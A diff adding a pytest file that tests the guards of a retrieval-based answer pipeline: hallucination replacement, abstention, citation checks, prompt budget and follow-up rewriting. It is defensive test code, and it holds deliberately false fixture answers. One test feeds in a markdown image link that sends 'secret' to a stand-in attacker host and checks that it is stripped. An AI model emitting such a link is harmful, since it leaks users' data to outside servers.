@@ -1,0 +1,152 @@
+"""The answer pipeline's guards, each proven with a scripted FakeLLM."""
+
+from __future__ import annotations
+
+import uuid
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from assistant.answer import ABSTAIN, AnswerConfig, answer_question
+from assistant.config import load_settings
+from assistant.library import Library
+from assistant.retrieve import Retriever
+from assistant.sources import parse_file
+from assistant.types import Answer, Paper
+from tests.fakes import FakeEmbedder, FakeLLM
+from vectorstore.chroma import ChromaStore
+
+SAMPLE = Path(__file__).resolve().parents[1] / "assistant" / "data" / "hf_daily_sample.txt"
+CAPPY_Q = "How many parameters does the Cappy scorer have?"
+
+
+@pytest.fixture(scope="module")
+def papers() -> list[Paper]:
+    return parse_file(SAMPLE).papers[:8]
+
+
+@pytest.fixture()
+def retriever(papers: list[Paper], tmp_path: Path) -> Retriever:
+    settings = load_settings(data_dir=tmp_path / "data")
+    emb = FakeEmbedder()
+    store = ChromaStore(None, f"t-{uuid.uuid4().hex[:12]}")
+    lib = Library(settings, write=True, embedder=emb, store=store)
+    lib.ingest(papers)
+    return Retriever(store, emb, top_k=3, relevance_floor=0.05)
+
+
+def _ask(q: str, llm: FakeLLM, retriever: Retriever, **kw: Any) -> tuple[Answer, list[str]]:
+    shown: list[str] = []
+    ans = answer_question(q, llm=llm, retriever=retriever, on_sentence=shown.append, **kw)
+    return ans, shown
+
+
+def test_supported_answer_keeps_sentence_and_quotes_source(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue("Cappy has 360 million parameters [1].")
+    ans, shown = _ask(CAPPY_Q, llm, retriever)
+    assert not ans.abstained
+    assert "360 million" in ans.answer
+    cite = ans.citations[0]
+    assert cite.title.startswith("Cappy")
+    paper = retriever.store.get_paper(cite.paper_id)
+    assert paper is not None
+    abstract = paper.abstract
+    assert cite.quote in abstract and "360 million" in cite.quote
+    assert shown == [ans.answer]
+
+
+def test_hallucinated_number_is_never_shown(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue("Cappy has 560 million parameters [1].")
+    ans, shown = _ask(CAPPY_Q, llm, retriever)
+    assert "560" not in ans.answer
+    assert all("560" not in s for s in shown)
+    bad = [s for s in ans.sentences if not s.supported]
+    assert bad and "560" in bad[0].text and bad[0].replaced_by_quote
+    # The replacement is a verbatim quote that carries the real fact.
+    assert "360 million" in ans.answer
+
+
+def test_world_knowledge_answer_is_replaced(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue("Paris is the capital of France.")
+    ans, _ = _ask(CAPPY_Q, llm, retriever)
+    assert "Paris" not in ans.answer
+
+
+def test_off_topic_question_abstains_without_calling_model(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue("Paris.")
+    ans, _ = _ask("What is the capital of France?", llm, retriever)
+    assert ans.abstained and ans.answer == ABSTAIN
+    assert llm.calls == []
+
+
+def test_gated_retrieval_abstains_without_calling_model(
+    papers: list[Paper], tmp_path: Path
+) -> None:
+    emb = FakeEmbedder()
+    store = ChromaStore(None, f"t-{uuid.uuid4().hex[:12]}")
+    Library(load_settings(data_dir=tmp_path), write=True, embedder=emb, store=store).ingest(papers)
+    strict = Retriever(store, emb, relevance_floor=0.99)
+    llm = FakeLLM()
+    ans, _ = _ask(CAPPY_Q, llm, strict)
+    assert ans.abstained and llm.calls == []
+
+
+def test_citation_of_unretrieved_source_is_invalid(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue("Cappy has 360 million parameters [7].")
+    ans, _ = _ask(CAPPY_Q, llm, retriever)
+    assert "[7]" not in ans.answer
+    markers = {c.marker for c in ans.citations}
+    assert markers and markers <= {1, 2, 3}
+
+
+def test_nothing_supported_and_no_evidence_abstains(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue("The learning rate was 0.001 [1].")
+    ans, _ = _ask("What learning rate was used to train the Cappy scorer?", llm, retriever)
+    assert ans.abstained and ans.answer == ABSTAIN
+
+
+def test_model_abstention_is_respected(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue(ABSTAIN)
+    ans, _ = _ask(CAPPY_Q, llm, retriever)
+    assert ans.abstained
+
+
+def test_prompt_fits_budget_and_reports_dropped_sources(retriever: Retriever) -> None:
+    llm = FakeLLM(n_ctx=420).enqueue("Cappy has 360 million parameters [1].")
+    ans, _ = _ask(CAPPY_Q, llm, retriever, config=AnswerConfig(max_tokens=100))
+    assert llm.calls, "model was called"
+    assert llm.prompt_tokens(llm.calls[0]) + 100 <= 420
+    retrieved = {r.paper_id for r in ans.retrieved}
+    assert ans.dropped_sources and set(ans.dropped_sources) <= retrieved
+
+
+def test_followup_is_rewritten_then_verified(retriever: Retriever) -> None:
+    history = [
+        {"role": "user", "content": "Tell me about the Cappy scorer."},
+        {"role": "assistant", "content": "Cappy is a small scorer [1]."},
+    ]
+    llm = FakeLLM().enqueue(
+        "How many parameters does the Cappy scorer have?", "Cappy has 360 million parameters [1]."
+    )
+    ans, _ = _ask("How many parameters does it have?", llm, retriever, history=history)
+    assert ans.standalone_question == "How many parameters does the Cappy scorer have?"
+    assert "360 million" in ans.answer
+
+
+def test_rewrite_that_invents_an_entity_is_rejected(retriever: Retriever) -> None:
+    history = [{"role": "user", "content": "Tell me about the Cappy scorer."}]
+    llm = FakeLLM().enqueue(
+        "How many parameters does GPT-4 have?", "Cappy has 360 million parameters [1]."
+    )
+    ans, _ = _ask("How many parameters does it have?", llm, retriever, history=history)
+    assert "GPT-4" not in (ans.standalone_question or "")
+    assert "Cappy" in (ans.standalone_question or "")
+
+
+def test_unsafe_markup_in_model_output_is_stripped(retriever: Retriever) -> None:
+    llm = FakeLLM().enqueue(
+        "Cappy has 360 million parameters [1]. ![x](http://evil.invalid/?q=secret)"
+    )
+    ans, _ = _ask(CAPPY_Q, llm, retriever)
+    assert "evil.invalid" not in ans.answer and "![" not in ans.answer
